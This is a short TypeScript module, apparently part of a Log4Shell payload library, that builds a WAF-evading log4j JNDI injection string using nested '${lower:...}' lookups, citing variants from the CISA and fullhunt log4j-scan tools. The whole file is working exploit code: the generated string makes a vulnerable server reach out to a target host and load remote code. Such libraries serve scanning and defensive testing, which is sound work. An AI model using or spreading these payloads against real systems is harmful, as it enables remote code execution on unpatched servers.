import { afterScheme, disguise } from '../form.ts'

export const lowerWords = disguise(
  {
    id: 'lower-words',
    summary: 'whole words in lower:',
    firesOn: ['C'],
    seenIn: ['CISA log4j-scan waf5', 'fullhunt log4j-scan waf5'],
  },
  (target) => `\${\${lower:jndi}:\${lower:${target.scheme}}:${afterScheme(target)}}`,
)
